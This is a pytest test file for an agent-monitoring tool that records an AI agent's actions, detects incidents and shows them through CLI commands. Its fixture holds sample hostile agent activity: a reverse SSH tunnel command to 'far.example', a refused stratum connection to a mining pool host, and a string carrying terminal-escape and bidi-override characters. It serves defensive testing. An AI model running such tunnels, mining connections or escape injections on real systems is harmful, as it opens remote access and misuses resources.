"""Both commands over a real ledger, filled by the real detectors and the real correlator."""

from __future__ import annotations

import json
import unicodedata
from pathlib import Path
from typing import Any

import msgspec
import pytest
from click.testing import CliRunner

from vigiles.cli.incident import choice, listing, show
from vigiles.detectors.registry import Detectors
from vigiles.drills import mark
from vigiles.incidents.correlate import Correlator
from vigiles.ledger.book import Book
from vigiles.ledger.home import Home
from vigiles.ledger.key import load_or_make
from vigiles.ledger.store import Store
from vigiles.ledger.wire import row_of
from vigiles.model.act import Act, ProcessSpec
from vigiles.model.attribution import Attribution
from vigiles.model.coordinates import Coordinates
from vigiles.model.episode import EpisodeEnded
from vigiles.model.errors import InputInvalid, NotFound
from vigiles.model.finding import Finding
from vigiles.model.incident import Incident
from vigiles.model.observation.flow import Flow
from vigiles.model.observation.process import ProcessStart
from vigiles.model.response import Response
from vigiles.model.stamp import Stamp
from vigiles.model.union import Recorded

HOSTILE = "\x1b]0;owned\x07\u202e"


def observations(episode: str, hour: int) -> list[Recorded]:
    def head(number: int, call: int | None = 1) -> dict[str, Any]:
        us = 1_700_000_000_000_000 + hour * 3_600_000_000 + number * 10_000
        return {
            "id": f"rec-{episode}-{number}",
            "at": Stamp(wall_us=us, mono_us=us, boot="b"),
            "coordinates": Coordinates(run=f"run-{episode}", episode=episode, turn=1, call=call),
        }

    seen = {"sensor": "notifier", "attribution": Attribution(grade="exact", call=1, methods=["listener", "uts"])}
    argv = ["ssh", "-NR", "9022:localhost:22", "far.example", HOSTILE]
    flow = {"flow": "f", "via": "connect", "host": "pool.example", "port": 3333, "protocol": "stratum"}
    return [
        Act(**head(1), principal="agent", kind="process", tool="bash", process=ProcessSpec(argv=argv)),
        ProcessStart(**head(2), **seen, pid=7, ppid=1, via="launch", exe="/usr/bin/ssh", argv=argv),
        Flow(**head(3), **seen, phase="refused", reason="egress_host", **flow),
    ]


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = Home(tmp_path / "home")
    home.prepare()
    book = Book(Store(home.database), load_or_make(home))
    detectors, correlator = Detectors(), Correlator()
    for hour, episode in enumerate(("ep-a", "ep-b")):
        for record in observations(episode, hour):
            findings: list[Finding] = detectors.feed(record)
            versions = [correlator.feed(finding) for finding in findings]
            written = [record, *findings, *(version for version in versions if version is not None)]
            book.append([row_of(one) for one in written])
    tunnel = next(one for one in map(correlator.newest, _names(correlator)) if one and "far.example" in one.cause)
    response = Response(id="rsp-1", at=tunnel.at, coordinates=tunnel.coordinates, kind="freeze", act="act-1",
                        incident=tunnel.incident, target="episode ep-b", outcome="done", took_us=9000)  # fmt: skip
    after = correlator.responded(response)
    assert after is not None
    book.append([row_of(response), row_of(after)])
    book.sign()
    book.close()
    return home.path


def _names(correlator: Correlator) -> list[str]:
    return list(reversed(correlator._kept._items))


def invoke(command: Any, home: Path, *arguments: str) -> str:
    result = CliRunner().invoke(command, ["--home", str(home), *arguments], standalone_mode=False)
    if result.exception is not None:
        raise result.exception
    assert result.return_value == 0
    return result.output


def listed(home: Path, *arguments: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = [
        item["incident"] for item in json.loads(invoke(listing.command, home, "--json", *arguments)) if not item["campaign"]
    ]
    return found


def test_the_list_is_newest_first_with_one_line_an_incident(home: Path) -> None:
    found = listed(home)
    assert len(found) == 4
    assert [incident["aware_us"] for incident in found] == sorted((i["aware_us"] for i in found), reverse=True)
    assert {incident["severity"] for incident in found} == {"high"}
    text = invoke(listing.command, home)
    assert all(incident["incident"] in text for incident in found)
    assert "4 incidents and 2 campaigns, 1 LIVE\n" in text
    assert "open, LIVE" in text


def test_at_80_columns_the_title_has_a_line_of_its_own(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    lines = invoke(listing.command, home).splitlines()
    assert max(map(len, lines)) <= 80
    for incident in listed(home):
        at = next(number for number, line in enumerate(lines) if line.startswith(incident["incident"] + "  high"))
        title = incident["title"].partition(" ")[0]
        assert lines[at + 1].startswith(f"    {title} ")


def test_a_suppression_that_has_run_out_is_shown_as_it_is_listed(home: Path) -> None:
    first = listed(home)[0]
    book = Book(Store(Home(home).database), load_or_make(Home(home)))
    quiet = {**first, "id": "inc-quiet", "version": 99, "state": "suppressed", "note": "known", "expires_us": 1}
    book.append([row_of(msgspec.convert(quiet, Incident))])
    book.sign()
    book.close()
    (row,) = [
        row
        for row in json.loads(invoke(listing.command, home, "--json", "--state", "open"))
        if row["incident"]["incident"] == first["incident"]
    ]
    assert row["state"] == "open"
    line = next(line for line in invoke(listing.command, home).splitlines() if line.startswith(first["incident"]))
    assert "open" in line
    assert "suppressed" not in line
    assert "suppressed until 1970-01-01" in " ".join(invoke(show.command, home, first["incident"]).split())


def test_what_is_over_is_not_to_be_stopped(home: Path) -> None:
    live = next(incident for incident in listed(home) if not incident["contained"])
    run, episode = live["coordinates"]["run"], live["coordinates"]["episode"]
    assert f"vigiles stop --run {run}" in invoke(show.command, home, live["incident"])
    book = Book(Store(Home(home).database), load_or_make(Home(home)))
    stamp = Stamp(wall_us=1_800_000_000_000_000, mono_us=1, boot="b")
    where = Coordinates(run=run, episode=episode)
    book.append([row_of(EpisodeEnded(id="rec-end", at=stamp, coordinates=where, reason="closed"))])
    book.sign()
    book.close()
    text = invoke(listing.command, home)
    assert (
        "LIVE"
        not in text.partition("4 incidents and 2 campaigns, 0 LIVE, 1 over, not contained before the episode ended")[0]
    )
    assert "open, over" in text
    assert not any(row["live"] for row in json.loads(invoke(listing.command, home, "--json")))
    after = invoke(show.command, home, live["incident"])
    assert "vigiles stop" not in after
    assert "not contained before the episode ended (closed)" in " ".join(after.split())
    shown = json.loads(invoke(show.command, home, "--json", live["incident"]))
    assert "before the episode ended" in shown["next"][0]


def test_what_was_played_in_a_drill_is_marked(home: Path) -> None:
    real = next(i for i in listed(home) if i["coordinates"]["run"] == "run-ep-a")
    book = Book(Store(Home(home).database), load_or_make(Home(home)))
    incident = msgspec.convert(real, Incident)
    where = Coordinates(run="run-d", episode="ep-d", task="rome", model_version=mark.model_version())
    book.append([row_of(msgspec.structs.replace(incident, id="inc-drill.1", incident="inc-drill", coordinates=where))])
    book.sign()
    book.close()
    rows = {
        row["incident"]["incident"]: row["drill"]
        for row in json.loads(invoke(listing.command, home, "--json"))
        if not row["campaign"]
    }
    assert rows == {i["incident"]: "rome" if i["incident"] == "inc-drill" else None for i in listed(home)}
    assert len(rows) == 5
    assert invoke(listing.command, home).count("[drill rome] ") == 1
    assert invoke(show.command, home, "inc-drill").startswith("played in drill rome\n")
    assert json.loads(invoke(show.command, home, "--json", "inc-drill"))["drill"] == "rome"
    assert "drill" not in invoke(show.command, home, real["incident"])


def test_campaigns_stand_among_the_incidents(home: Path) -> None:
    rows = json.loads(invoke(listing.command, home, "--json"))
    many = [row for row in rows if row["campaign"]]
    assert len(rows) == 6
    assert [row["incident"]["incident"] for row in many] == [
        one["incident"]["incident"] for one in json.loads(invoke(listing.command, home, "--json", "--campaigns"))
    ]
    assert {tuple(row["incident"]["episodes"]) for row in many} == {("ep-a", "ep-b")}
    single = {row["incident"]["incident"]: row for row in rows if not row["campaign"]}
    for row in many:
        assert row["live"] == any(single[member]["live"] for member in row["incident"]["members"])
    lines = invoke(listing.command, home).splitlines()
    assert sum("campaign in 2 episodes: " in line for line in lines) == 2
    assert "no incidents" in invoke(listing.command, home, "--run", "run-ep-a", "--campaigns").replace(
        "campaigns", "incidents"
    )


def test_the_page_names_the_campaign(home: Path, tmp_path: Path) -> None:
    (campaign, *_) = json.loads(invoke(listing.command, home, "--json", "--campaigns"))
    one, other = campaign["incident"]["members"]
    invoke(show.command, home, one, "--html", str(tmp_path / "page.html"))
    page = (tmp_path / "page.html").read_text()
    assert campaign["incident"]["incident"] in page
    assert other in page
    assert "the same in 2 episodes" in page


def test_filters(home: Path) -> None:
    assert {i["coordinates"]["run"] for i in listed(home, "--run", "run-ep-a")} == {"run-ep-a"}
    assert len(listed(home, "--state", "open")) == 4
    assert listed(home, "--state", "closed") == []
    assert "no incidents" in invoke(listing.command, home, "--run", "run-none")


def test_a_report_shows_call_process_and_proof(home: Path) -> None:
    tunnel = next(i for i in listed(home, "--run", "run-ep-b") if "far.example" in i["cause"])
    text = invoke(show.command, home, tunnel["incident"])
    assert "Call 1" in text
    assert "7  ssh -NR" in text
    assert "freeze of episode ep-b: done" in text
    assert "inclusion checked" in text
    assert max(len(line) for line in text.splitlines()) <= 80
    assert all(char == "\n" or unicodedata.category(char) not in ("Cc", "Cf") for char in text)
    assert invoke(show.command, home, tunnel["incident"][:10]) == text
    assert invoke(show.command, home, tunnel["incident"].removeprefix("inc-")) == text
    assert invoke(show.command, home, f"{tunnel['incident']}.1") == text


def test_json_holds_everything(home: Path) -> None:
    tunnel = next(i for i in listed(home, "--run", "run-ep-b") if "far.example" in i["cause"])
    shown = json.loads(invoke(show.command, home, "--json", tunnel["incident"]))
    assert shown["incident"]["contained"] is True
    assert shown["proof"]["checked"] is True
    assert [record["type"] for _, record in shown["evidence"]] == ["process_start"]
    assert shown["calls"][0]["act"][1]["type"] == "act"
    assert shown["next"]


def test_mistakes_say_what_to_do(home: Path) -> None:
    with pytest.raises(NotFound, match="no incident inc-00000000") as missing:
        invoke(show.command, home, "inc-00000000")
    assert missing.value.remedy
    with pytest.raises(NotFound):
        invoke(show.command, home, "\x1b[2J")
    with pytest.raises(NotFound):
        invoke(show.command, home, "inc-")


def test_an_ambiguous_beginning_is_refused(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(choice, "_SHORTEST", 0)
    with pytest.raises(InputInvalid, match="could be inc-"):
        invoke(show.command, home, "inc-")


def test_types_of_what_was_written(home: Path) -> None:
    from vigiles.ledger.query import LedgerReader

    with LedgerReader(home) as reader:
        versions = [record for _, record in reader.records(type="incident")]
    assert all(isinstance(record, Incident) for record in versions)
    assert len({record.id for record in versions}) == len(versions)
